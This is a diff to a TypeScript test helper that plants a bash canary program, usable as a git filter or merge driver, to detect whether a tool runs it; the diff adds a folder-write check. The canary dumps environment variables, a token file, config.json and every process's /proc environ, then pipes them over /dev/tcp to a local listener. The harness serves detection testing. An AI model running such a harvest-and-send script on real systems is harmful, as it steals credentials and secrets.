@@ -9,6 +9,8 @@ export interface Loot {
   ran(): string[];
   /** Everything it saw. */
   seen(): string;
+  /** Whether it could write where it lies. */
+  wrote(): boolean;
   /** A command line that starts it by a name. */
   by(name: string): string;
 }
@@ -34,25 +36,20 @@ export async function layLoot(folder: string, dataFolder: string, onEnd: (end: (
   const [port] = (await once(fence.stdout, "data")) as [Buffer];
   const look = [
     `echo "ran:$1"; env; cat ${dataFolder}/token ${dataFolder}/config.json; cat /proc/[0-9]*/environ | tr '\\0' '\\n'`,
+    `(echo x > ${folder}/written) 2>/dev/null`,
     // As a filter it hands on what it is given, as a merge driver it takes ours, as anything else it says nothing.
     'case "$1" in filter*) cat;; esac',
   ];
   writeFileSync(
     program,
-    `#!/bin/bash\n{ ${look[0]}; } 2>/dev/null >/dev/tcp/127.0.0.1/${String(port).trim()}\n${look[1]}\nexit 0\n`,
+    `#!/bin/bash\n{ ${look[0]}; } 2>/dev/null >/dev/tcp/127.0.0.1/${String(port).trim()}\n${look.slice(1).join("\n")}\nexit 0\n`,
   );
   chmodSync(program, 0o755);
   const seen = () => (existsSync(told) ? readFileSync(told, "utf8") : "");
   return {
-    ran: () =>
-      [
-        ...new Set(
-          seen()
-            .match(/^ran:.*$/gm)
-            ?.map((line) => line.slice(4)),
-        ),
-      ].sort(),
+    ran: () => [...new Set(Array.from(seen().matchAll(/^ran:(.*)$/gm), ([, name = ""]) => name))].sort(),
     seen,
+    wrote: () => existsSync(join(folder, "written")),
     by: (name) => `${program} ${name}`,
   };
 }
